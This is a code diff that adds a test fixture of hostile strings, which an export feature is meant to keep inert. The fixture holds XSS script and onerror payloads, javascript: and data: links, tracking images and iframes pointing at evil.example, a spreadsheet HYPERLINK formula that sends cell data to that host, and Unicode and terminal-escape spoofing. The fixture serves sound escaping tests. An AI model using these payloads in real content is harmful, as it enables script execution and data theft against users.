@@ -221,3 +221,18 @@ export async function zip(
   const blob = await collect(stream, null, 'application/zip', new AbortController().signal);
   return { bytes: new Uint8Array(await blob.arrayBuffer()), made: await done };
 }
+
+/** What must stand in an export as it was written, and do nothing. */
+export const HOSTILE = [
+  '<script>document.title="ran"</script><img src=x onerror="document.title=\'ran\'">',
+  '</div></article></main><iframe src="https://evil.example/"></iframe>',
+  '![x](https://evil.example/track.png) [click](javascript:alert(1)) [b]: data:text/html,x',
+  '~~~\n```\n# not a heading\n~~~~~~~~\n<b>x</b>',
+  '=HYPERLINK("https://evil.example/?"&A1,"x")\n+1+1\n@SUM(A1)',
+  '\u202egpj.exe\u202c \u2066x\u2069 \u001b[31mred\u0007 \u0000',
+  '<!--\n]]>\n<style>*{display:none}</style>',
+  '&lt;script&gt; &#106;avascript: java&#115;cript',
+  '<https://evil.example/> <javascript:alert(1)> https://evil.example/auto',
+  '[x](<javascript:alert(1)>) [y](\n javascript:alert(1)) [z][b]\n\n[b]: javascript:alert(2)\n[c]:\njavascript:alert(3)\n\n[c] ![c]',
+  '\\![x](https://evil.example/a.png) \\\\![x](https://evil.example/b.png) [![x](https://evil.example/c.png)](data:text/html,x)',
+];
